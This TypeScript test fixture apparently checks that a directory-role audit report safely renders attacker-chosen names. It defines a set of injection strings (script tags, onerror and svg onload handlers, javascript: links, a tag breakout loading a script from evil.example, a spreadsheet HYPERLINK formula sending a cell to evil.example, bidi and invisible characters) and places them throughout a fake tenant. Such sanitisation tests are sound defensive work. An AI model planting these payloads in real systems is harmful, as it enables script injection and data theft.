import type { PreviewFindings } from '../../../src/report/preview/preview-findings.ts';
import {
  ADA,
  GLOBAL_ADMINISTRATOR,
  GRACE,
  group,
  HELPDESK_ADMINISTRATOR,
  LIN,
  NIGHT_SHIFT,
  roleKey,
  servicePrincipal,
  user,
} from '../../snapshot-builder.ts';
import {
  driftFinding,
  itemOf,
  markedItem,
  previewAccess,
  previewFindings,
  removalPlan,
  renewalPlan,
} from './findings-builder.ts';

/** What an administrator of a tenant, or a guest, can call things. */
export const hostile = {
  script: '<script>document.title="script ran"</script>',
  image: '<img src=x onerror="document.title=\'image ran\'">',
  attribute: '"><svg onload=alert(1)><a href="javascript:alert(1)">',
  endOfStyle: "</style></title></textarea>--><script src='https://evil.example/x.js'></script>",
  link: 'javascript:document.title="link ran"',
  turned: 'Ada \u202egnihton\u202c \u2066x\u2069 \u200f',
  unseen: 'Global\u200b Administrator\u0000\u0007\u001b[31m\ufeff',
  lines: 'two\r\nlines\u2028and more',
  half: 'half \ud83d character',
  formula: '=HYPERLINK("https://evil.example?"&A1,"more")',
  long: 'W'.repeat(400),
} as const;

/** A tenant in which everything that somebody can name has such a name. */
export function hostileFindings(): PreviewFindings {
  const { script, image, attribute, endOfStyle, link, turned, unseen, lines, half, formula, long } = hostile;
  const scope = `/administrativeUnits/${attribute}`;
  const usual = previewFindings();
  const principals = [
    user({ id: ADA, displayName: script }),
    user({ id: GRACE, displayName: turned }),
    user({ id: LIN, displayName: `${image} ${long}` }),
    group({ id: NIGHT_SHIFT, displayName: unseen, memberIds: undefined }),
    servicePrincipal({ displayName: formula }),
  ];
  const obstacle = {
    code: 'incomplete',
    stops: 'destructive',
    itemId: undefined,
    sentence: `${image} ${lines}`,
  } as const;
  return {
    ...usual,
    tenant: { id: attribute, name: endOfStyle },
    account: { id: half, name: `${turned} ${long}`, scopes: [script], unaskedScopes: [attribute] },
    rules: { ...usual.rules, source: { kind: 'file', path: attribute }, hash: attribute },
    plans: [
      renewalPlan({
        items: [
          itemOf(GRACE, { evidence: { said: script, [image]: attribute, turned } }),
          itemOf(LIN, {
            decision: 'report',
            reason: 'unreadable',
            change: null,
            evidence: { unreadableBecause: lines },
          }),
        ],
      }),
      removalPlan({
        obstacles: [obstacle],
        items: [
          markedItem(),
          markedItem({ id: attribute, decision: 'change', key: roleKey({ directoryScopeId: scope }) }),
        ],
      }),
    ],
    drift: [
      driftFinding({ roleName: image, baseline: script }),
      driftFinding({ roleName: formula, state: 'unreadable', items: [], unreadable: [attribute, lines] }),
    ].map((finding) => ({
      ...finding,
      items: finding.items.map((item) => ({
        ...item,
        sentence: attribute,
        changedBy: { at: usual.at, by: link, name: unseen, namesRule: true },
      })),
    })),
    access: [
      ...usual.access,
      previewAccess({ key: roleKey({ directoryScopeId: scope }), isControlPlane: false }),
      previewAccess({ kind: 'eligibility', key: { principalId: link, groupId: image, accessId: 'member' } }),
    ],
    unseen: usual.unseen.map((one) => ({ ...one, because: image, follows: script, remedy: link })),
    unreadable: [
      {
        part: 'users',
        id: script,
        principalId: formula,
        roleDefinitionId: undefined,
        directoryScopeId: undefined,
        because: `${attribute}${lines}`,
      },
    ],
    names: {
      principals: new Map(principals.map((one) => [one.id, one])),
      roles: new Map([
        [GLOBAL_ADMINISTRATOR, `${attribute} ${long}`],
        [HELPDESK_ADMINISTRATOR, formula],
      ]),
      scopes: new Map([[scope, { kind: 'there', type: 'administrativeUnit', displayName: endOfStyle }]]),
    },
    sinceBefore: {
      before: usual.at,
      hasOtherRules: true,
      incomparable: ['users'],
      newItems: [markedItem()],
      goneItems: [itemOf(GRACE)],
      newAccess: [previewAccess({ key: roleKey({ directoryScopeId: scope }) })],
      goneAccess: [],
      drift: [],
    },
  };
}
